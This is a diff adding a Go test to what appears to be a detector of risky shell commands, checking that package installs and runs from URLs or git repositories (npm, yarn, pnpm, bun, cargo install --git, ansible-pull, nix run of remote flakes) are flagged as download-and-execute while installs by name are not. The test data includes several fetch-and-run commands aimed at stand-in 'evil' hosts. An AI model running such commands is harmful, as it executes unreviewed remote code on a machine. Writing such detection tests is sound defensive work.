@@ -926,3 +926,37 @@ func TestCodeSendsSecretFile(t *testing.T) {
 		t.Errorf("a program that only prints .env: %v, want no network-exfiltration", got)
 	}
 }
+
+// TestPackagesFromURL: installing straight from a URL or a repository
+// runs code nobody reviewed in a registry (the package's install scripts,
+// a crate's build script), as pip install git+URL already is: npm, pnpm,
+// yarn and bun install|add of a URL, a git+ or github: spec; cargo install
+// --git; and programs that fetch and run at once: ansible-pull -U (its
+// docs: pulls a repository and runs its playbook on this host), nix run of
+// a remote flake (github:, git+, https:). Installs by name stay everyday
+// (README: "npm install … of a package, whatever its name"), as do local
+// paths and registry flakes.
+func TestPackagesFromURL(t *testing.T) {
+	for _, tt := range []struct {
+		cmd, want string
+	}{
+		{"npm install https://x.example/evil.tgz", DownloadExecute},
+		{"npm i git+https://github.com/x/evil.git", DownloadExecute},
+		{"yarn add https://x.example/evil.tgz", DownloadExecute},
+		{"pnpm add github:x/evil", DownloadExecute},
+		{"bun add git+ssh://git@github.com/x/evil.git", DownloadExecute},
+		{"cargo install --git https://github.com/x/evil", DownloadExecute},
+		{"ansible-pull -U https://x.example/repo.git", DownloadExecute},
+		{"ansible-pull --url=https://x.example/repo.git site.yml", DownloadExecute},
+		{"nix run github:x/y", DownloadExecute},
+		{"nix run 'git+https://x.example/y.git#app'", DownloadExecute},
+		{"npm install lodash", ""},
+		{"npm install ./packages/local", ""},
+		{"yarn add react@18", ""},
+		{"cargo install ripgrep", ""},
+		{"nix run nixpkgs#hello", ""},
+		{"ansible-pull --help", ""},
+	} {
+		checkRow(t, tt.cmd, tt.want)
+	}
+}
